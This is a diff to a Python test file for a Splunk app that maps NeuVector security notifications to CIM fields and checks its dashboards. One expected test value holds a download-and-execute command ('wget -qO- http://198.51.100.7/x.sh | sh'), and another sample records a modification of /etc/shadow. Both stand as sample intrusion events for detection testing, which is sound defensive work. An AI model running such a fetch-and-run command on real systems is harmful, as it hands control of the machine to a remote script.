@@ -28,7 +28,7 @@ from nvparser import schema
 from nvsamples import load_samples, reference_dir
 from splunk_package import ROOT, build_package
 from splunkd_harness import PYTHONS
-from splunk_sim import App, matches
+from splunk_sim import App, Eval, matches
 
 APP_DIR = ROOT / "splunk_app" / "neuvector_siem"
 APP = App(APP_DIR)
@@ -108,6 +108,8 @@ CIM = {
 # Splunk TA conventions beside the CIM: vendor/product, and the vendor's own
 # action and severity kept when the CIM fields replace them.
 TA_FIELDS = {"vendor", "product", "vendor_product", "vendor_action", "vendor_severity"}
+# Fields splunk-notes §5 lists for a sourcetype beyond the models' field lists above.
+NOTES_FIELDS = {"neuvector:violation": {"rule_id", "count"}, "neuvector:incident": {"signature", "signature_id"}}
 
 
 def eventtype_tags():
@@ -151,7 +153,7 @@ def test_cim_fields_belong_to_the_tagged_data_models():
         sourcetype = "neuvector:" + notification
         models = {m for name, stanza in eventtypes.items() if sourcetype in stanza["search"]
                   for m in models_of(tags[name])}
-        allowed = set(TA_FIELDS).union(*(CIM[m][1].split() for m in models))
+        allowed = set(TA_FIELDS).union(NOTES_FIELDS.get(sourcetype, ()), *(CIM[m][1].split() for m in models))
         generated = {f.name for f in schema.FIELDS[notification]} | {"syslog_" + p for p in gen_conf.SYSLOG_PARTS}
         generated |= {"syslog_facility", "syslog_severity"}
         extra = set(_mapped_fields(APP.props[sourcetype])) - generated - allowed
@@ -163,7 +165,8 @@ def test_cim_fields_belong_to_the_tagged_data_models():
 EXPECTED_CIM = {
     "violation-text-1": ({"neuvector_network_traffic"}, {
         "action": "allowed", "direction": "outbound", "transport": "tcp", "src": "10.42.3.17",
-        "dest": "142.250.74.100", "dest_port": "443", "app": "SSL", "rule": "0", "vendor_product": "NeuVector"}),
+        "dest": "142.250.74.100", "dest_port": "443", "app": "SSL", "rule": "0", "vendor_product": "NeuVector",
+        "rule_id": "0", "count": "3"}),
     "violation-text-2": ({"neuvector_network_traffic"}, {
         "action": "blocked", "direction": "lateral", "app": None, "vendor_action": "deny"}),
     "violation-text-4": ({"neuvector_network_traffic"}, {"direction": "inbound"}),
@@ -173,12 +176,15 @@ EXPECTED_CIM = {
         "signature_id": "2022", "src": "203.0.113.45", "src_port": "51544", "dest_port": "3306",
         "category": "network attack", "ids_type": "network"}),
     "threat-text-3": ({"neuvector_ids_attack"}, {"action": "allowed", "category": "dlp", "transport": "tcp"}),
-    "threat-text-5": ({"neuvector_ids_attack"}, {"transport": "icmp", "action": "blocked"}),
+    "threat-text-5": ({"neuvector_ids_attack"}, {"transport": "icmpv6", "action": "blocked"}),  # ip_proto=58
     "incident-text-1": ({"neuvector_endpoint_process"}, {
         "action": "allowed", "process_name": "wget", "user": "root", "user_id": "0",
         "process": "sh -c wget -qO- http://198.51.100.7/x.sh?arch=amd64,os=linux | sh",
-        "parent_process_name": "sh", "dest": "checkout-7c5ddbdf54-q8zrn"}),
-    "incident-text-2": ({"neuvector_endpoint_filesystem"}, {"file_path": "/etc/shadow", "action": "allowed"}),
+        "parent_process_name": "sh", "dest": "checkout-7c5ddbdf54-q8zrn", "signature": "Process.Profile.Violation",
+        "signature_id": "00000000-0000-0000-0000-000000000000"}),
+    # Endpoint.Filesystem action is what was done to the file ("File was modified."), not allowed/blocked.
+    "incident-text-2": ({"neuvector_endpoint_filesystem"}, {
+        "file_path": "/etc/shadow", "action": "modified", "vendor_action": "violate"}),
     "incident-text-3": ({"neuvector_endpoint_process"}, {"dest": "ip-10-0-1-23", "user_id": "0"}),
     "incident-json-4": ({"neuvector_endpoint_process"}, {
         "action": "blocked", "user_id": "10001", "process": 'python3 -c print("héllo <b>&</b> naïve ☃")'}),
@@ -196,6 +202,8 @@ EXPECTED_CIM = {
         "severity": "critical", "dest": "shop/checkout:2.4.1", "category": "container image"}),
     "audit-text-2": ({"neuvector_vulnerability"}, {
         "cve": "CVE-2024-3094", "cvss": 10.0, "xref": "https://nvd.nist.gov/vuln/detail/CVE-2024-3094"}),
+    # a "CVE in layers" message repeats CVEs of the whole-image report: not a Vulnerabilities event
+    "audit-text-4": (set(), {}),
     "audit-text-8": ({"neuvector_vulnerability"}, {"severity": "informational", "dest": "ip-10-0-2-41"}),
     "audit-text-5": ({"neuvector_compliance"}, {"type": "alert", "severity": "medium"}),
     "audit-text-6": ({"neuvector_admission"}, {"type": "alert", "severity": "medium"}),
@@ -236,6 +244,42 @@ def test_scan_report_gives_one_cve_value_per_cve():
         # the record's critical_vul_cnt, high_vul_cnt and medium_vul_cnt
         assert len(fields["cve"]) == len(set(fields["cve"])) == 14 + 93 + 642, form
         assert fields["cve"][:2] == ["CVE-2017-34255", "CVE-2017-38057"]
+        # severity: one value per CVE, from the list the CVE came from (splunk-notes §5)
+        assert fields["severity"] == ["critical"] * 14 + ["high"] * 93 + ["medium"] * 642, form
+
+
+def _variant(sample_id: str, old: str, new: str) -> str:
+    """The sample's first raw line with one key=value changed."""
+    line = SAMPLES[sample_id].lines[0].decode("utf-8")
+    assert line.count(old) == 1, old
+    return line.replace(old, new)
+
+
+def test_ip_protocol_58_is_icmpv6():
+    fields = APP.search_fields("neuvector:violation", _variant("violation-text-1", ",ip_proto=6,", ",ip_proto=58,"))
+    assert fields["transport"] == ["icmpv6"]
+
+
+@pytest.mark.parametrize("name, status", [
+    ("RESTful.Write", "success"), ("Crd.Import", "success"), ("Crd.Error", "failure"),
+    ("Configuration.Import.Failed", "failure"), ("ConfigMap.Failed", "failure"),
+    ("Admission.Control.ConfigFailed", "failure"), ("User.Resource.Access.Denied", "failure"),
+    ("User.Login.Blocked", "failure"), ("User.Login.Unblocked", "success")])
+def test_change_status_marks_failures(name, status):
+    """Wire-format reference §6.1: Fail*, Error, Denied and Blocked names are failures."""
+    fields = APP.search_fields("neuvector:event", _variant("event-text-2", ",name=RESTful.Write,", ",name=%s," % name))
+    assert fields["status"] == [status]
+
+
+@pytest.mark.parametrize("message, action", [
+    ("File was modified.", "modified"), ("Files were modified or deleted.", "modified"),
+    ("NV.Protect: Files were modified.", "modified"), ("Software packages were updated.", "modified"),
+    ("Something else.", None)])
+def test_file_incident_action_is_a_filesystem_action(message, action):
+    fields = APP.search_fields("neuvector:incident", _variant(
+        "incident-text-2", ",message=File was modified.", ",message=" + message))
+    assert fields.get("action") == ([action] if action else None)
+    assert fields["vendor_action"] == ["violate"]
 
 
 def test_action_lookup_covers_every_policy_action():
@@ -264,6 +308,20 @@ def test_compliance_join_finds_regulations():
     assert set(found) == {"D.5.4", "D.5.12", "D.5.25"}
     assert all(level == "WARN" for level, _ in found.values())
     assert any(regulations for _, regulations in found.values())
+
+
+def test_compliance_items_keep_custom_and_unknown_checks():
+    """A custom check (<group>/<name>) and an item of no known form still get a test_id."""
+    definition = conf("macros.conf")["neuvector_compliance_items(1)"]["definition"]
+    rex = APP.regex(re.search(r'rex field=items "((?:[^"\\]|\\.)*)"', definition).group(1))
+    fill = re.search(r"\btest_id=(coalesce\(test_id, items\))", definition)
+    assert fill, "test_id must fall back to the raw item"
+    m = rex.search("nv.shop/no-root-login WARN - root login is allowed")
+    assert (m.group("check_group"), m.group("test_id"), m.group("check_level")) == ("nv.shop", "no-root-login", "WARN")
+    item = "some text NeuVector may send"
+    m = rex.search(item)
+    fields = {} if m is None else {k: [v] for k, v in m.groupdict().items() if v is not None}
+    assert Eval(fill.group(1)).value(dict(fields, items=[item])) == [item]
 
 
 # -- searches -------------------------------------------------------------------
@@ -357,6 +415,71 @@ def test_official_app_bugs_stay_fixed():
     assert sorted(d for found in directions for d in found) == sorted(
         ["outbound", "inbound", "lateral", "$direction$"])
     assert not any("server_id=" in q or "server_name=external" in q for q in network)
+
+
+def _query(view: str, title: str) -> str:
+    root = ET.parse(APP_DIR / "data" / "ui" / "views" / view).getroot()
+    panel = next(p for p in root.iter() if p.findtext("title") == title)
+    return next(panel.iter("query")).text.strip()
+
+
+def test_logins_by_user_counts_only_failed_and_blocked_logins():
+    """User.Login.Unblocked is an admin unblocking a user (Info), not a failure (reference §6.1)."""
+    query = _query("neuvector_access.xml", "Logins by user")
+    failures = dict((n, e) for e, n in re.findall(r"count\(eval\((.*?)\)\) as (\w+)", query))["failures"]
+    for name in ("User.Login", "User.Login.Unblocked", "User.Logout", "User.Login.Failed", "User.Login.Blocked"):
+        assert Eval(failures).value({"name": [name]}) == (
+            ["true"] if name in ("User.Login.Failed", "User.Login.Blocked") else ["false"]), name
+
+
+# Fields a dashboard groups by that an event may lack, beside the schema's
+# omitempty, list and map fields: lookups and evals that can give nothing.
+DERIVED_OPTIONAL = {"app", "transport", "object", "image", "test_id", "check_level", "check_description"}
+# Every record of the sourcetypes grouped by name has one (only violations lack it).
+ALWAYS_PRESENT = {"name"}
+
+
+def _expand_macros(search: str) -> str:
+    def one(m):
+        key = m.group(1) if m.group(2) is None else "%s(%d)" % (m.group(1), len(m.group(2).split(",")))
+        return MACROS[key]["definition"] if key != "neuvector_index" else m.group(0)
+    return re.sub(r"`([A-Za-z_]\w*)(?:\(([^`]*)\))?`", one, search)
+
+
+def _optional_fields(search: str):
+    notifications = re.findall(r'sourcetype="neuvector:(\w+)"', search) or schema.NOTIFICATIONS
+    optional = set(DERIVED_OPTIONAL)
+    for n in notifications:
+        optional |= {f.name for f in schema.FIELDS.get(n, ()) if f.omitempty or f.type in ("list", "map")}
+    return optional - ALWAYS_PRESENT
+
+
+def test_dashboards_fill_optional_group_by_fields():
+    """stats/chart/timechart drop events whose by-field is null: fill optional ones first."""
+    checked = 0
+    for view, query in dashboard_queries():
+        search = _expand_macros(query)
+        optional = _optional_fields(search)
+        for m in re.finditer(r"\|\s*(?:stats|chart|timechart)\b([^|]*)", search):
+            groups = re.findall(r"\bover\s+(\w+)", m.group(1))
+            by = re.search(r"\bby\s+((?:\w+\s*)+)$", m.group(1))
+            groups += by.group(1).split() if by else []
+            before = search[:m.start()]
+            for field in set(groups) & optional:
+                checked += 1
+                filled = re.search(r"\bfillnull\b[^|]*\s%s\b" % field, before) or re.search(
+                    r"[\s,]%s=coalesce\(" % field, before)
+                assert filled, (view, field, query)
+    assert checked >= 10
+
+
+def test_regulation_choices_have_tagged_checks():
+    """compliance-tags.md: no shipped check carries NIST, PCIv4 or DISA; a choice for them finds nothing."""
+    tagged = {r for row in APP.lookup_rows("neuvector_compliance_tags") for r in row["regulations"].split("|") if r}
+    root = ET.parse(APP_DIR / "data" / "ui" / "views" / "neuvector_compliance.xml").getroot()
+    choices = [c.get("value") for i in root.iter("input") if i.get("token") == "regulation" for c in i.iter("choice")]
+    regulations = [re.fullmatch(r'regulations="(\w+)"', v).group(1) for v in choices if v != "*"]
+    assert regulations and set(regulations) <= tagged
 
 
 # -- the package ----------------------------------------------------------------
